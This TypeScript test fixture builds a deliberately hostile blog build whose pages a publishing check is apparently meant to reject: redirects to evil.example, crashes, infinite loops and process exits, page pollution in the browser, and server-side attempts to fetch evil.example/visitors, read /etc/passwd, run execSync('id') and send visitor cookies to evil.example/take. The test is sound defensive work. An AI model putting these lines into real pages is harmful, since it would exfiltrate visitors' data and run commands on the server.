import { distOf } from '../../deploy/release/publish-builds.ts';
import { makeBuild, manifestOf } from './builds.ts';

/** A page that must not be published. */
export interface HostilePage {
  /** What it does, after "a page". */
  what: string;
  /** What its team is told. */
  reason: string;
  /** The page as an object literal; `page` is that of the blog, which is as it should be. */
  code: string;
}

const answering = (response: string) => `{ ...page, loader: ({ request }) => { throw ${response}; } }`;
const leadingTo = (location: string) =>
  answering(`new Response(null, { status: 302, headers: { location: ${location} } })`);
/** Does something before it answers, and goes on whatever comes of it. */
const trying = (code: string) =>
  `{ ...page, loader: async (args) => { if (isServer) await (async () => ${code})().catch(() => {}); return page.loader(args); } }`;
const whileDrawn = (code: string) => `{ ...page, default: () => { ${code} return page.default(); } }`;
/** The same in the browser, where it is a page that the visitor came to or began with. */
const inBrowser = (code: string) => whileDrawn(`if (!isServer) { ${code} }`);

/** Pages that the server finds out. */
export const pagesOnServer: readonly HostilePage[] = [
  {
    what: 'that nobody can see',
    reason: 'answers 404: nobody can see it',
    code: answering('new Response(null, { status: 404 })'),
  },
  {
    what: 'that fails in French only',
    reason: 'answers 500 on the server',
    code: `{ ...page, loader: (args) => { if (appOf(args, page).i18n.language === 'fr') throw new Error('en panne'); return page.loader(args); } }`,
  },
  {
    what: 'that leads to itself',
    reason: 'leads in a circle',
    code: leadingTo('new URL(request.url).pathname'),
  },
  {
    what: 'that leads to another site',
    reason: 'sends visitors to another site: https://evil.example/',
    code: leadingTo(`'https://evil.example/'`),
  },
  {
    what: 'that throws while it is drawn',
    reason: 'answers 500 on the server',
    code: whileDrawn(`throw new Error('broken');`),
  },
  {
    what: 'that loops on the server',
    reason: 'answers 503 on the server',
    code: whileDrawn('if (isServer) for (;;);'),
  },
  {
    what: 'that ends the process',
    reason: 'answers 503 on the server',
    code: whileDrawn('if (isServer) process.exit();'),
  },
];

/** Pages that look as they should, and reach for what they may not have. */
export const reachingPages: readonly HostilePage[] = [
  {
    what: 'that asks another origin on the server',
    reason: 'may not connect to https://evil.example: pages on the server reach the api, and nothing else',
    code: trying(`fetch('https://evil.example/visitors')`),
  },
  {
    what: 'that opens files on the server',
    reason: 'may not import node:fs: a remote has its own files and what the host provides',
    code: trying(`(await import('node:fs')).readFileSync('/etc/passwd')`),
  },
  {
    what: 'that starts a process on the server',
    reason: 'may not use process.getBuiltinModule',
    code: trying(`process.getBuiltinModule('child_process').execSync('id')`),
  },
  {
    what: 'that computes an address which the api lacks',
    reason: 'GET /api/no-such-list',
    code: trying(`appOf(args, page).api.get(['', 'no-such-list'].join('/'))`),
  },
  {
    what: 'that sends the cookies of visitors elsewhere by the client of the api',
    reason: 'GET /api/https://evil.example/take',
    code: trying(`appOf(args, page).api.get('https://evil.example/take')`),
  },
];

/** Pages that only a browser finds out. */
export const pagesInBrowser: readonly HostilePage[] = [
  {
    what: 'whose loader throws in the browser only',
    reason: 'Error: broken',
    code: `{ ...page, loader: (args) => { if (!isServer) throw new Error('broken'); return page.loader(args); } }`,
  },
  {
    what: 'that asks another origin in the browser',
    reason: 'violates the following Content Security Policy directive',
    code: inBrowser(`fetch('https://evil.example').catch(() => {});`),
  },
  {
    what: 'that leaves behind what other pages feel: a prototype, a global, a wrapped fetch, timers, a listener',
    reason: [
      'Array.prototype.last was added',
      'fetch was replaced',
      'visitors was added',
      'a timer that repeats stays',
      'a timer that sets itself again stays',
      'a listener for click of the document stays',
    ].join('; '),
    code: inBrowser(`
      const real = fetch;
      window.fetch = (...args) => real(...args);
      window.visitors = [];
      Object.defineProperty(Array.prototype, 'last', { configurable: true, value() { return this.at(-1); } });
      setInterval(() => {}, 100);
      const later = () => setTimeout(() => later(), 50);
      later();
      document.addEventListener('click', () => {});`),
  },
  {
    what: "that hides the host's header",
    reason: 'display of header a is none',
    code: inBrowser(`
      const sheet = new CSSStyleSheet();
      sheet.replaceSync('header a { display: none }');
      document.adoptedStyleSheets = [sheet];`),
  },
  {
    what: 'that asks by a dialog',
    reason: 'it opens a dialog: Buy!',
    code: inBrowser(`setTimeout(() => alert('Buy!'));`),
  },
  { what: 'that leaves by itself', reason: 'by itself', code: inBrowser(`setTimeout(() => location.reload());`) },
  { what: 'that throws later', reason: 'oops', code: inBrowser(`setTimeout(() => { throw new Error('oops'); });`) },
];

const all = [...pagesOnServer, ...reachingPages, ...pagesInBrowser];
const idOf = (page: HostilePage) => `blog.trap-${all.indexOf(page)}`;

/** What the first module of either half is in the place of the real one. */
const hostileApp = `import real from './real.js';
const isServer = typeof document === 'undefined';
/** What a loader gets from its context. */
const appOf = (args, page) => {
  let app;
  const get = (key) => { app = args.context.get(key); return { api: { get: () => new Promise(() => {}) } }; };
  void page.loader({ ...args, context: { get } });
  return app;
};
const [row] = real.routes;
const pages = {${all.map((page) => `'${idOf(page)}': (page) => (${page.code}),`).join('\n')}};
const routes = Object.entries(pages).map(([id, spoil]) => ({ ...row, id, path: '/' + id.replace('.', '-'), lazy: async () => spoil(await row.lazy()) }));
const app = { ...real, routes: [row, ...routes] };
export default app;
`;

/** A blog with all of these pages, in both halves, and each by what it does. */
export async function makeHostileBlog() {
  const { pages, hints } = await manifestOf(distOf('blog'));
  const [row] = pages;
  if (!row) throw new Error('the blog has a page');
  const rows = all.map((page) => ({ ...row, id: idOf(page), path: `/${idOf(page).replace('.', '-')}` }));
  const needs = hints.pages[row.id] ?? { js: [], css: [] };
  const manifest = {
    pages: [row, ...rows],
    hints: { ...hints, pages: Object.fromEntries([row, ...rows].map(({ id }) => [id, needs])) },
  };
  const build = await makeBuild('blog', 'hostile', { manifest, serverModule: hostileApp, clientModule: hostileApp });
  return { ...build, pageOf: (page: HostilePage) => rows.filter(({ id }) => id === idOf(page)) };
}
